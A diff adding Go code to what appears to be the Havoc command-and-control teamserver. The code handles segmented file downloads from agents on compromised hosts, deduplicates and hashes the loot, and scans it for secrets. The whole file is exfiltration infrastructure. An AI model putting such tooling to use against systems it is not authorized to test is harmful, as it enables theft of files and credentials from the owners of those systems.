@@ -0,0 +1,401 @@
+package server
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"io"
+	"math/rand"
+	"os"
+	"path/filepath"
+	"strings"
+	"time"
+
+	"Havoc/pkg/agent"
+	"Havoc/pkg/common"
+	"Havoc/pkg/db"
+	"Havoc/pkg/eventbus"
+	"Havoc/pkg/events"
+	"Havoc/pkg/logger"
+	"Havoc/pkg/logr"
+	"Havoc/pkg/seal"
+)
+
+// DownloadSegmented
+// splits the download of a file over multiple agents/paths. Every
+// source downloads its own range of the file and the teamserver
+// reassembles and hashes the file once every segment arrived.
+// Sources are pairs of agent id and path of the file on the agent.
+func (t *Teamserver) DownloadSegmented(User, Name string, Size int64, Hash string, Sources [][2]string) (*SegmentedDownload, error) {
+	var (
+		Workspace = t.UserWorkspace(User)
+		Agents    []*agent.Agent
+		Download  = &SegmentedDownload{
+			ID:   fmt.Sprintf("%08x", rand.Uint32()),
+			User: User,
+			Name: Name,
+			Size: Size,
+			Hash: strings.ToLower(Hash),
+		}
+		Offset int64
+	)
+
+	if Size <= 0 {
+		return nil, errors.New("size of the file is required to split it into segments")
+	}
+
+	if len(Sources) == 0 {
+		return nil, errors.New("no agent specified to download the file from")
+	}
+
+	if len(Download.Hash) > 0 {
+		if Decoded, err := hex.DecodeString(Download.Hash); err != nil || len(Decoded) != sha256.Size {
+			return nil, errors.New("hash has to be a sha256 hex string")
+		}
+	}
+
+	/* no need for more segments than bytes */
+	if int64(len(Sources)) > Size {
+		Sources = Sources[:Size]
+	}
+
+	for _, Source := range Sources {
+		var Agent = t.Agents.Get(Source[0])
+
+		if Agent == nil || t.AgentHasDied(Agent) {
+			return nil, errors.New("agent " + Source[0] + " not found or dead")
+		}
+
+		if !workspaceVisible(Workspace, Agent.Info.Workspace) {
+			return nil, errors.New("agent " + Source[0] + " not found or dead")
+		}
+
+		if len(Source[1]) == 0 {
+			return nil, errors.New("no path of the file specified for agent " + Source[0])
+		}
+
+		Agents = append(Agents, Agent)
+	}
+
+	for i, Agent := range Agents {
+		var Length = Size / int64(len(Agents))
+
+		/* last segment gets the rest */
+		if i == len(Agents)-1 {
+			Length = Size - Offset
+		}
+
+		Download.Segments = append(Download.Segments, &DownloadSegment{
+			DemonID: Agent.NameID,
+			Path:    Sources[i][1],
+			Offset:  Offset,
+			Length:  Length,
+		})
+
+		Offset += Length
+	}
+
+	t.Downloads.Lock()
+	for i, Segment := range Download.Segments {
+		var job = Agents[i].DownloadRange(Segment.Path, Segment.Offset, Segment.Length)
+
+		Segment.RequestID = job.RequestID
+
+		logger.Debug(fmt.Sprintf("Segmented download %v: %v downloads bytes %v-%v of %v", Download.ID, Segment.DemonID, Segment.Offset, Segment.Offset+Segment.Length, Segment.Path))
+	}
+	t.Downloads.Segmented = append(t.Downloads.Segmented, Download)
+	t.Downloads.Unlock()
+
+	return Download, nil
+}
+
+// DownloadSegment
+// called by the agent once a download finished or got removed. The
+// downloaded file gets moved over instead of read into memory.
+// returns true if the download was a segment of a segmented download.
+func (t *Teamserver) DownloadSegment(Agent *agent.Agent, RequestID uint32, File string, Size int64, Finished bool) bool {
+	var (
+		Download *SegmentedDownload
+		Segment  *DownloadSegment
+		Done     int
+	)
+
+	t.Downloads.Lock()
+	defer t.Downloads.Unlock()
+
+	for _, download := range t.Downloads.Segmented {
+		for _, segment := range download.Segments {
+			if segment.DemonID == Agent.NameID && segment.RequestID == RequestID && !segment.Done {
+				Download = download
+				Segment = segment
+				break
+			}
+		}
+	}
+
+	if Segment == nil {
+		return false
+	}
+
+	if !Finished {
+		t.downloadFailed(Download, "segment of "+Agent.NameID+" has been removed")
+		return true
+	}
+
+	if Size != Segment.Length {
+		os.Remove(File)
+		t.downloadFailed(Download, fmt.Sprintf("segment of %v has %v bytes instead of %v", Agent.NameID, Size, Segment.Length))
+		return true
+	}
+
+	if err := common.MoveFile(File, t.downloadPart(Download, Segment)); err != nil {
+		t.downloadFailed(Download, "failed to save segment: "+err.Error())
+		return true
+	}
+
+	Segment.Done = true
+
+	for _, segment := range Download.Segments {
+		if segment.Done {
+			Done++
+		}
+	}
+
+	t.SendEventToUser(Download.User, events.Downloads.Status(Download.ID, Download.Name, "running", Done, len(Download.Segments)))
+
+	if Done == len(Download.Segments) {
+		t.downloadAssemble(Download)
+	}
+
+	return true
+}
+
+func (t *Teamserver) downloadPart(Download *SegmentedDownload, Segment *DownloadSegment) string {
+	return filepath.Join(logr.LogrInstance.DownloadPath, fmt.Sprintf("%v_%v.part", Download.ID, Segment.Offset))
+}
+
+// downloadAssemble
+// concatenates the segments and verifies the hash of the file.
+func (t *Teamserver) downloadAssemble(Download *SegmentedDownload) {
+	var (
+		Path = filepath.Join(logr.LogrInstance.DownloadPath, Download.ID+"_"+filepath.Base(strings.ReplaceAll(Download.Name, "\\", "/")))
+		Hash = sha256.New()
+	)
+
+	File, err := seal.Create(Path)
+	if err != nil {
+		t.downloadFailed(Download, "failed to create file: "+err.Error())
+		return
+	}
+	defer File.Close()
+
+	for _, Segment := range Download.Segments {
+		Part, err := seal.Open(t.downloadPart(Download, Segment))
+		if err != nil {
+			t.downloadFailed(Download, "failed to open segment: "+err.Error())
+			return
+		}
+
+		_, err = common.StreamCopy(io.MultiWriter(File, Hash), Part)
+		Part.Close()
+
+		if err != nil {
+			t.downloadFailed(Download, "failed to reassemble file: "+err.Error())
+			return
+		}
+	}
+
+	t.downloadRemove(Download)
+
+	var (
+		Sum      = hex.EncodeToString(Hash.Sum(nil))
+		Verified = len(Download.Hash) > 0 && Download.Hash == Sum
+	)
+
+	if len(Download.Hash) > 0 && !Verified {
+		logger.Warn(fmt.Sprintf("Segmented download %v: hash mismatch (expected %v, got %v)", Download.ID, Download.Hash, Sum))
+	}
+
+	var (
+		Data     []byte
+		Transfer = agent.TransferURL(logr.LogrInstance.TransferPath(Path))
+	)
+
+	if t.Downloads.Assembled == nil {
+		t.Downloads.Assembled = make(map[string]string)
+	}
+
+	t.Downloads.Assembled[filepath.Base(Path)] = Download.User
+
+	/* small files get sent inline. bigger ones have to be streamed from the transfer endpoint */
+	if Download.Size <= agent.DOWNLOAD_INLINE_MAX {
+		if Data, err = seal.ReadFile(Path); err != nil {
+			logger.Error("Failed to read reassembled file: " + err.Error())
+			return
+		}
+	}
+
+	logger.Info(fmt.Sprintf("Segmented download %v of %v finished [%v, sha256: %v]", Download.ID, Download.Name, common.ByteCountSI(Download.Size), Sum))
+
+	t.EventPublish(eventbus.LOOT_ADDED, t.UserWorkspace(Download.User), map[string]any{
+		"Type":   "download",
+		"Name":   Download.Name,
+		"Path":   Path,
+		"Size":   Download.Size,
+		"SHA256": Sum,
+		"User":   Download.User,
+	})
+
+	t.lootHashed(t.UserWorkspace(Download.User), "", Download.Name, Path, Sum, Download.Size)
+
+	go func() {
+		defer t.Recover("secret scan of download " + Path)
+
+		t.secretsScanFile(t.UserWorkspace(Download.User), nil, Download.Name, Path)
+	}()
+
+	t.SendEventToUser(Download.User, events.Downloads.Finished(Download.ID, Download.Name, Sum, Verified, Data, Transfer))
+}
+
+func (t *Teamserver) downloadFailed(Download *SegmentedDownload, Reason string) {
+	logger.Error(fmt.Sprintf("Segmented download %v of %v failed: %v", Download.ID, Download.Name, Reason))
+
+	t.downloadRemove(Download)
+	t.SendEventToUser(Download.User, events.Downloads.Status(Download.ID, Download.Name, "failed: "+Reason, 0, len(Download.Segments)))
+}
+
+// downloadRemove
+// removes the download and its segments. Downloads lock has to be held.
+func (t *Teamserver) downloadRemove(Download *SegmentedDownload) {
+	for _, Segment := range Download.Segments {
+		os.Remove(t.downloadPart(Download, Segment))
+	}
+
+	for i := range t.Downloads.Segmented {
+		if t.Downloads.Segmented[i] == Download {
+			t.Downloads.Segmented = append(t.Downloads.Segmented[:i], t.Downloads.Segmented[i+1:]...)
+			break
+		}
+	}
+}
+
+// DownloadKnown
+// checks if the loot of the workspace of the agent already has the file
+// the agent sent the hash of before transferring it. The existing copy
+// gets linked into the downloads of the agent then instead. returns the
+// name of the file the existing copy got downloaded as.
+func (t *Teamserver) DownloadKnown(Agent *agent.Agent, Name string, Size int64, Hash string) (string, bool) {
+	var Workspace = Agent.Info.Workspace
+
+	for _, Loot := range t.DB.LootHashes(Workspace, Hash, Size) {
+		/* removed from the loot store since */
+		if Info, err := os.Stat(Loot.Path); err != nil || !Info.Mode().IsRegular() {
+			t.DB.LootHashRemove(Workspace, Loot.Path)
+			continue
+		}
+
+		Path, err := Agent.DownloadPath(Name)
+		if err != nil {
+			return "", false
+		}
+
+		if Path != Loot.Path {
+			if err = lootLink(Loot.Path, Path); err != nil {
+				logger.Error(fmt.Sprintf("Failed to link loot %v to %v: %v", Loot.Path, Path, err))
+				return "", false
+			}
+
+			t.lootHashed(Workspace, Agent.NameID, Name, Path, Hash, Size)
+
+			t.EventPublish(eventbus.LOOT_ADDED, Workspace, map[string]any{
+				"AgentID": Agent.NameID,
+				"Type":    "download",
+				"Name":    Name,
+				"Path":    Path,
+				"Size":    Size,
+				"SHA256":  Hash,
+				"Linked":  Loot.Path,
+			})
+		}
+
+		logger.Info(fmt.Sprintf("Download of %v by agent %v skipped, already in the loot as %v [sha256: %v]", Name, Agent.NameID, Loot.Name, Hash))
+
+		return Loot.Name, true
+	}
+
+	return "", false
+}
+
+// DownloadFinished
+// records the hash of a finished download so the next download of the
+// same file gets linked to it and scans it for secrets.
+func (t *Teamserver) DownloadFinished(Agent *agent.Agent, Name, File string) {
+	var Workspace = Agent.Info.Workspace
+
+	go func() {
+		defer t.Recover("hash of download " + File)
+
+		Reader, err := seal.Open(File)
+		if err != nil {
+			logger.Error("Failed to open download to hash it: " + err.Error())
+			return
+		}
+		defer Reader.Close()
+
+		var Hash = sha256.New()
+
+		Size, err := common.StreamCopy(Hash, Reader)
+		if err != nil {
+			logger.Error("Failed to hash download: " + err.Error())
+			return
+		}
+
+		t.lootHashed(Workspace, Agent.NameID, Name, File, hex.EncodeToString(Hash.Sum(nil)), Size)
+		t.secretsScanFile(Workspace, Agent, Name, File)
+	}()
+}
+
+// lootHashed
+// records the hash of the file of the loot store.
+func (t *Teamserver) lootHashed(Workspace, AgentID, Name, Path, Hash string, Size int64) {
+	var err = t.DB.LootHashSet(db.LootHash{
+		Workspace: Workspace,
+		Hash:      Hash,
+		Size:      Size,
+		Path:      Path,
+		Name:      Name,
+		AgentID:   AgentID,
+		Time:      time.Now().Format("02/01/2006 15:04:05"),
+	})
+
+	if err != nil {
+		logger.Error("Failed to record the hash of the loot: " + err.Error())
+	}
+}
+
+// lootLink
+// copies the file of the loot store to the path of the new download.
+// no hard link: downloading the file again truncates and rewrites it,
+// which would change the existing copy as well.
+func lootLink(Source, Path string) error {
+	In, err := os.Open(Source)
+	if err != nil {
+		return err
+	}
+	defer In.Close()
+
+	/* copied as it is. sealed files stay sealed with their own file id */
+	Out, err := os.Create(Path)
+	if err != nil {
+		return err
+	}
+
+	if _, err = common.StreamCopy(Out, In); err != nil {
+		Out.Close()
+		os.Remove(Path)
+		return err
+	}
+
+	return Out.Close()
+}